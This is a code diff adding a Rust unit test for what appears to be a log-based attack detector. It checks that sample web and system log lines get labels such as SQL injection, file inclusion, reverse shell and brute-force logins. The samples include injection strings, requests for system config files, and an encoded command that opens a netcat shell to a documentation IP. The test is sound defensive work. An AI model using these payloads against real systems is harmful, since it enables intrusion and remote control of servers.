@@ -18,3 +18,39 @@ fn nearly_every_alternative_needs_a_literal() {
         TABLE.filter.candidates(b"").map(|part| TABLE.parts[part].1.as_str()).collect();
     assert!(unfiltered.len() <= 24, "{unfiltered:#?}");
 }
+
+/// What a line is taken for by its strongest rule; none where none means anything alone.
+#[test]
+fn requests_are_named_for_what_they_carry() {
+    let guess =
+        r#"192.0.2.9 - - [03/Nov/2026:02:11:04] "POST /wp-login.php HTTP/1.1" 401 0 "-" "-""#;
+    let (three, two) = ([guess; 3].join(" "), [guess; 2].join(" "));
+    for (line, expected) in [
+        (r#""GET /item?id=guest'-- HTTP/1.1" 500 9"#, Some("SQL injection in a request")),
+        (r#""GET /item?id=7%20AND%201=CAST(1 HTTP/1.1" 500 9"#, Some("SQL injection in a request")),
+        (r#""GET /item?id=o'brien HTTP/1.1" 200 9"#, None),
+        (r#"mysqld: 42 Query SELECT @@version LIMIT 1"#, None),
+        (
+            r#""GET /view?page=/etc/nginx/nginx.conf HTTP/1.1" 200 9"#,
+            Some("local or remote file inclusion in a request"),
+        ),
+        (
+            r#""GET /view?page=/windows/win.ini HTTP/1.1" 200 9"#,
+            Some("local or remote file inclusion in a request"),
+        ),
+        (r#""GET /view?page=/etcetera/about HTTP/1.1" 200 9"#, None),
+        (
+            r#""GET /ping?to=%7Cnc%20192.0.2.7%204444%20-e%20/bin/sh HTTP/1.1" 200 9"#,
+            Some("reverse shell in a request"),
+        ),
+        ("waf: 12,000 requests per second from 192.0.2.9", Some("a device reported a flood")),
+        ("cache: 12,000 requests per second served", None),
+        ("proxy: uploaded 900 MB to external host 192.0.2.9", Some("data leaving reported")),
+        (three.as_str(), Some("failed web logins in a row")),
+        (two.as_str(), Some("request for administration pages")),
+    ] {
+        let hits = hits(line);
+        let telling = hits.first().filter(|hit| hit.strength > Strength::Trace);
+        assert_eq!(telling.map(|hit| hit.name.as_ref()), expected, "{line}");
+    }
+}
